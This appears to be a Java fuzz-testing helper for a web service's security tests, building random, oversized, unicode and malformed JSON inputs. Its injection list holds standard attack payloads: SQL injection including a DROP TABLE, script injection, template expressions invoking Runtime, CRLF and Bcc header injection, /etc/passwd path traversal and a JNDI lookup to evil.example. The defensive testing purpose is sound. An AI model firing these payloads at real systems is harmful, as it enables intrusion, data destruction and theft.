package io.guichet.security;

import java.util.List;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Values nobody should send: random, oversized, injected (SQL, HTML and script, template
 * expressions, CRLF header injection, paths), unicode edge cases (lone surrogates,
 * right-to-left override, zero-width, NUL, combining marks) and, for JSON, wrongly typed
 * values.
 */
final class Nasty {

	/** The header a CRLF injection tries to add; no answer may carry it. */
	static final String INJECTED_HEADER = "X-Injected";

	static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE client; --",
			"1; DELETE FROM portal_access --", "\" OR \"\"=\"", "admin'--", "%' OR 1=1 --", "<script>alert(1)</script>",
			"\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>", "{{7*7}}", "${7*7}",
			"#{7*7}", "__${T(java.lang.Runtime).getRuntime()}__::x", "[[${7*7}]]", "a\r\n" + INJECTED_HEADER + ": yes",
			"a%0d%0a" + INJECTED_HEADER + ":%20yes", "\r\nSet-Cookie: hacked=1", "../../../../etc/passwd",
			"..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "${jndi:ldap://evil.example/a}", "%00", "%s%s%s%n", "\\",
			"\"", "'", "null", "undefined", "NaN", "-1", "0", "99999999999999999999999999", "1e309", "2024-02-30",
			"0000-00-00", "P-1D", "PT0S", "P99999999999D", "00000000-0000-0000-0000-000000000000", "not-a-uuid", "true",
			"", " ", "\t", "a@b", "a@b.c\r\nBcc: victim@example.com");

	static final List<String> UNICODE = List.of("\u0000", "a\u0000b", "\ud800", "\udfff", "x\ud83d", "\ud83d\ude00",
			"\u202eevil\u202c", "\u200b", "a\u200db", "\ufeff", "e\u0301\u0301\u0301\u0301", "\u0085", "\u2028",
			"\u2029", "\uffff", "\ufffd", "مرحبا", "שלום", "\uff1cscript\uff1e", "Z\u0351\u0367\u0302\u0344",
			"\u0007\u0008\u001b[31m", "ǅ", "ﬀ", "İı", "\u1680", "\u3000");

	private Nasty() {
	}

	/** A string field's value: random, oversized, injected, unicode or a mix. */
	static Arbitrary<String> text() {
		return Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(40), Arbitraries.of(INJECTIONS),
				Arbitraries.of(UNICODE), oversized(),
				Arbitraries.of(INJECTIONS).flatMap((injection) -> Arbitraries.of(UNICODE).map((u) -> injection + u)),
				Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(5));
	}

	/** Strings longer than any field allows (up to 70,000 characters). */
	static Arbitrary<String> oversized() {
		return Arbitraries.integers()
			.between(101, 70_000)
			.flatMap((length) -> Arbitraries.of("x", "é", "\ud83d\ude00", "<b>", "'", "\u0301")
				.map((unit) -> unit.repeat(Math.max(1, length / unit.length()))));
	}

	/** A JSON value for a field: a nasty string, or the wrong type altogether. */
	static Arbitrary<String> json() {
		return Arbitraries.oneOf(text().map(Nasty::quote),
				Arbitraries.of("0", "-1", "1.5", "-0", "1e309", "99999999999999999999999999999", "true", "false",
						"null", "[]", "{}", "[null]", "[\"a\",1,{}]", "{\"a\":{\"b\":[1]}}", "\"\"",
						"[" + "[".repeat(1500) + "]".repeat(1500) + "]", "{\"$where\":\"1==1\"}", "\"\\u0000\"",
						"\"\\ud800\"", "[\"\\udfff\"]"));
	}

	/** A whole body that is not the JSON object the call expects. */
	static Arbitrary<String> body() {
		return Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(60),
				Arbitraries.of("", "{", "}", "[]", "null", "0", "\"x\"", "{\"a\":", "{'a':1}", "{\"a\":1,}", "<xml/>",
						"{\"a\":1}{\"b\":2}", "\u0000", "{\"a\":\"\\ud800\"}", "[" + "{}".repeat(5000) + "]"),
				oversized().map((text) -> "{\"x\":\"" + text + "\"}"));
	}

	/** The JSON text of a string, with every control and surrogate character escaped. */
	static String quote(String text) {
		StringBuilder json = new StringBuilder("\"");
		for (char c : text.toCharArray()) {
			if (c == '"' || c == '\\') {
				json.append('\\').append(c);
			}
			else if (c < 0x20 || Character.isSurrogate(c) || c == 0x7f) {
				json.append(String.format("\\u%04x", (int) c));
			}
			else {
				json.append(c);
			}
		}
		return json.append('"').toString();
	}

}
